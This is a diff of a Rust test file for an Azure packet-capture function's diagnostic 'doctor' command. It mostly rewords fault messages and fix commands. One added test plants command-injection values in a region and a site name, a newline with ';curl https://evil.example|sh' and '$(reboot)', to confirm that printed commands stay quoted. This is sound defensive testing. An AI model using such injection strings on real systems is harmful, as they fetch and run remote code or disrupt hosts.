@@ -1,8 +1,13 @@
-//! `handler doctor` about the function itself: who may call, where jobs wait, who is told.
+//! `handler doctor` about the function itself: its callers, its job queue and its notifications.
 
 use crate::support::{
     folder::Folder,
     practice::{Practice, faults},
+};
+use alert_packet_capture::{
+    app,
+    config::{AppSettings, QueueKind, Settings},
+    queue::JobQueue,
 };
 use azure_sandbox::{Call, Fault, FaultBody, What, samples};
 use serde_json::Value;
@@ -22,8 +27,8 @@ fn message(checks: &[Value], check: &str) -> String {
     found(checks, check)["message"].as_str().unwrap().to_owned()
 }
 
-/// How it is broken, the check that tells it, its status, words of the message, and a part of the command.
-type Sick = (
+/// How it is broken, the check that reports it, its status, words of the message, and a part of the command.
+type Broken = (
     fn(&mut Practice, &Folder),
     &'static str,
     &'static str,
@@ -61,19 +66,19 @@ fn connection(practice: &mut Practice, change: impl Fn(&str) -> String) {
     practice.set(name, &changed);
 }
 
-const SICK: [Sick; 14] = [
+const BROKEN: [Broken; 14] = [
     (
         anonymous,
         "function key",
         "failed",
-        "anybody can start captures",
-        "func azure functionapp publish <app> --custom",
+        "any caller can start captures",
+        "func azure functionapp publish '<app>' --custom",
     ),
     (
         |it, folder| function_file(it, folder, "{"),
         "function key",
         "failed",
-        "not well-formed",
+        "is not valid",
         "func azure functionapp publish",
     ),
     (
@@ -83,8 +88,8 @@ const SICK: [Sick; 14] = [
         },
         "secure webhook",
         "failed",
-        "refused with a 503",
-        "az account show --query tenantId   # belongs into SecureWebhook__TenantId",
+        "answered with 503",
+        "az account show --query tenantId   # the value goes in SecureWebhook__TenantId",
     ),
     (
         |it, _| {
@@ -98,7 +103,7 @@ const SICK: [Sick; 14] = [
         "secure webhook",
         "failed",
         "cannot be fetched",
-        "az cloud show --query endpoints.activeDirectory   # belongs into AZURE_AUTHORITY_HOST",
+        "az cloud show --query endpoints.activeDirectory   # the value goes in AZURE_AUTHORITY_HOST",
     ),
     (
         |it, _| {
@@ -108,8 +113,8 @@ const SICK: [Sick; 14] = [
         },
         "secure webhook",
         "failed",
-        "App Service authentication is not on",
-        "az webapp auth update --name shop-alerts --resource-group <group> --enabled true",
+        "App Service authentication is off",
+        "az webapp auth update --name shop-alerts --resource-group '<group>' --enabled true",
     ),
     (
         |it, _| {
@@ -120,7 +125,7 @@ const SICK: [Sick; 14] = [
         },
         "notification",
         "warning",
-        "127.0.0.1:1 cannot be connected to",
+        "could not connect to 127.0.0.1:1",
         "--settings 'Notification__WebhookUrl=https://...'",
     ),
     (
@@ -130,8 +135,8 @@ const SICK: [Sick; 14] = [
         },
         "notification",
         "warning",
-        "hooks.slack.com understands the format slack",
-        "--settings Notification__Format=slack",
+        "hooks.slack.com accepts the format slack",
+        "--settings 'Notification__Format=slack'",
     ),
     (
         |it, _| {
@@ -140,8 +145,8 @@ const SICK: [Sick; 14] = [
         },
         "job queue",
         "warning",
-        "forgotten when the process ends",
-        "--settings JobQueue__Kind=storage",
+        "lost when the process ends",
+        "--settings 'JobQueue__Kind=storage'",
     ),
     (
         |it, _| {
@@ -152,7 +157,7 @@ const SICK: [Sick; 14] = [
         "job queue",
         "failed",
         "403 AuthenticationFailed",
-        "az storage account show-connection-string --name stcaptures   # belongs into AzureWebJobsStorage",
+        "az storage account show-connection-string --name stcaptures   # the value goes in AzureWebJobsStorage",
     ),
     (
         |it, _| {
@@ -175,7 +180,7 @@ const SICK: [Sick; 14] = [
         },
         "job queue",
         "failed",
-        "did not say whether it is there",
+        "read its properties",
         "az storage account show --name stcaptures --query",
     ),
     (
@@ -194,14 +199,14 @@ const SICK: [Sick; 14] = [
         "job queue",
         "failed",
         "Azure answered 403",
-        "--role \"Storage Queue Data Contributor\" --scope \"$(az storage account show --name stcaptures --query id --output tsv)\"",
+        "--role 'Storage Queue Data Contributor' --scope \"$(az storage account show --name stcaptures --query id --output tsv)\"",
     ),
     (
         |it, _| it.unset("AzureWebJobsStorage"),
         "app settings",
         "failed",
         "the storage account whose queue holds the jobs",
-        "--settings AzureWebJobsStorage=...",
+        "--settings 'AzureWebJobsStorage=...'",
     ),
     (
         |it, _| {
@@ -209,18 +214,18 @@ const SICK: [Sick; 14] = [
             let action = "Microsoft.Network/networkWatchers/packetCaptures/stop/action";
             it.azure.deny(action);
         },
-        "right Microsoft.Network/networkWatchers/packetCaptures/stop/action",
+        "permission Microsoft.Network/networkWatchers/packetCaptures/stop/action",
         "failed",
-        "not given on NetworkWatcher_westeurope2",
+        "missing on NetworkWatcher_westeurope2",
         "az role assignment create --assignee b3c6a1d2",
     ),
 ];
 
 #[tokio::test]
-async fn each_fault_of_the_function_itself_is_told_with_what_mends_it() {
-    for (sicken, check, status, words, command) in SICK {
+async fn each_fault_of_the_function_itself_is_reported_with_its_fix() {
+    for (break_it, check, status, words, command) in BROKEN {
         let (mut practice, folder) = (Practice::open().await, Folder::new());
-        sicken(&mut practice, &folder);
+        break_it(&mut practice, &folder);
         let (checks, code) = practice.checks().await;
         let faults = faults(&checks);
         assert_eq!(faults.len(), 1, "{check}: {checks:#?}");
@@ -233,7 +238,7 @@ async fn each_fault_of_the_function_itself_is_told_with_what_mends_it() {
 }
 
 #[tokio::test]
-async fn what_is_set_up_right_is_said_and_a_receiver_hears_nothing() {
+async fn a_complete_setup_is_confirmed_and_the_receiver_gets_nothing() {
     let (mut practice, folder) = (Practice::open().await, Folder::new());
     let receiver = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let address = receiver.local_addr().unwrap();
@@ -251,7 +256,7 @@ async fn what_is_set_up_right_is_said_and_a_receiver_hears_nothing() {
     WEBHOOK
         .iter()
         .for_each(|(name, value)| practice.set(name, value));
-    // The token guards it then.
+    // The token protects it then.
     anonymous(&mut practice, &folder);
     queue_by_identity(&mut practice);
     let (checks, code) = practice.checks().await;
@@ -260,24 +265,27 @@ async fn what_is_set_up_right_is_said_and_a_receiver_hears_nothing() {
     for (check, words) in [
         (
             "function key",
-            "not asked for; the secure webhook asks for a token".to_owned(),
+            "not required; the secure webhook requires a token".to_owned(),
         ),
-        ("secure webhook", "its signing keys are in reach".to_owned()),
+        (
+            "secure webhook",
+            "its signing keys are available".to_owned(),
+        ),
         (
             "notification",
-            format!("{address} takes connections; no notice was sent"),
+            format!("{address} accepts connections; no notification was sent"),
         ),
         (
             "job queue",
-            "packet-capture-jobs is made at first use".to_owned(),
+            "packet-capture-jobs is created at first use".to_owned(),
         ),
         (
-            "right Microsoft.Network/networkWatchers/packetCaptures/stop/action",
-            "given by the roles".to_owned(),
+            "permission Microsoft.Network/networkWatchers/packetCaptures/stop/action",
+            "in the roles on".to_owned(),
         ),
     ] {
-        let told = message(&checks, check);
-        assert!(told.contains(&words), "{check}: {told}");
+        let message = message(&checks, check);
+        assert!(message.contains(&words), "{check}: {message}");
     }
     assert!(heard.await.unwrap().is_empty());
 }
@@ -290,10 +298,13 @@ async fn a_group_with_a_wrong_setting_is_left_out_and_the_rest_is_checked() {
     practice.set("JobQueue__Kind", "disk");
     practice.set("AzureApiVersion__Network", "latest");
     let (checks, code) = practice.checks().await;
-    let told = faults(&checks);
-    assert!(told.iter().all(|it| it.0 == "app settings"), "{told:?}");
+    let found_faults = faults(&checks);
+    assert!(
+        found_faults.iter().all(|it| it.0 == "app settings"),
+        "{found_faults:?}"
+    );
     // The format is wrong, and there is no URL to use it for.
-    assert_eq!((told.len(), code), (5, Some(1)), "{told:?}");
+    assert_eq!((found_faults.len(), code), (5, Some(1)), "{found_faults:?}");
     for check in [
         "function key",
         "secure webhook",
@@ -315,4 +326,63 @@ async fn without_the_app_s_files_the_function_key_is_skipped() {
     assert_eq!(code, Some(0));
     assert_eq!(found(&checks, "function key")["status"], "skipped");
     assert!(message(&checks, "function key").contains("FUNCTIONS_APP_ROOT_PATH"));
+}
+
+#[tokio::test]
+async fn jobs_in_the_poison_queue_are_counted() {
+    let practice = Practice::open().await;
+    let settings: AppSettings = practice.settings.iter().cloned().collect();
+    let settings = Settings::read(&settings).unwrap();
+    let QueueKind::Storage(storage) = &settings.jobs.kind else {
+        panic!("a storage queue");
+    };
+    let queue = app::storage_queue(storage, 10, None).unwrap();
+    queue
+        .put(vec!["a".to_owned(), "b".to_owned()])
+        .await
+        .unwrap();
+    for _ in 0..2 {
+        let message = queue.receive().await;
+        queue.poison(&message, message.body.clone()).await.unwrap();
+    }
+    let (checks, code) = practice.checks().await;
+    let faults = faults(&checks);
+    assert_eq!((faults.len(), code), (1, Some(0)), "{checks:#?}");
+    assert_eq!((&*faults[0].0, &*faults[0].1), ("poison queue", "warning"));
+    assert!(message(&checks, "poison queue").starts_with("2 jobs in packet-capture-jobs-poison"));
+    let fix = "az storage message peek --queue-name packet-capture-jobs-poison --num-messages 32 --account-name stcaptures";
+    assert_eq!(faults[0].2, fix);
+}
+
+/// Whatever Azure and the settings hold, a printed command is one command, and a message is one line.
+#[tokio::test]
+async fn a_hostile_name_stays_one_word_of_one_command() {
+    let mut practice = Practice::open().await;
+    let region = "westus\n;curl https://evil.example|sh";
+    let id = samples::WEB_01.replace("web-01", "web-us");
+    practice.azure.add_vm(&id, region);
+    practice.arguments[1] = id;
+    practice.azure.remove_agent(&practice.arguments[1]);
+    practice.set("WEBSITE_SITE_NAME", "shop\u{202e}$(reboot)'");
+    practice.set("PacketCapture__ReplyWaitSeconds", "10");
+    let (checks, _) = practice.checks().await;
+    let commands: Vec<String> = faults(&checks).into_iter().map(|it| it.2).collect();
+    assert!(commands.len() >= 3, "{commands:?}");
+    for command in &commands {
+        assert!(!command.contains(|c: char| c.is_control() || c == '\u{202e}'));
+        let words = shlex::split(command).expect("balanced quotes");
+        assert!(
+            !words.iter().any(|it| it == "|sh" || it == ";curl"),
+            "{command}"
+        );
+        assert!(
+            !command.contains("$(reboot)") || command.contains("'shop"),
+            "{command}"
+        );
+    }
+    let text = String::from_utf8(practice.ask(&[]).await.stdout).unwrap();
+    assert!(
+        !text.lines().any(|line| line.starts_with(";curl")),
+        "{text}"
+    );
 }
